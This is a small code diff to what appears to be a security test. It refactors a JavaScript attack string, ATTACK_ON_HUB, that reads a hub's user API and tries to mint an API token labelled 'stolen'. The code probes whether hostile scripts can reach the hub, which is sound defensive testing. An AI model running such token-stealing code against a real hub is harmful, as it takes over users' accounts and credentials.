@@ -23,7 +23,8 @@ ATTACK_ON_HUB = """async (hub) => {
     await attempt("here", () => read("/hub/api/user"));
     await attempt("token", async () => {
         const headers = { ...mine.headers, "Content-Type": "application/json" };
-        const answer = await fetch(tokens, { ...mine, headers, method: "POST", body: JSON.stringify({ note: "stolen" }) });
+        const body = JSON.stringify({ note: "stolen" });
+        const answer = await fetch(tokens, { ...mine, headers, method: "POST", body });
         return (await answer.json()).note;
     });
     await attempt("blind", async () => {
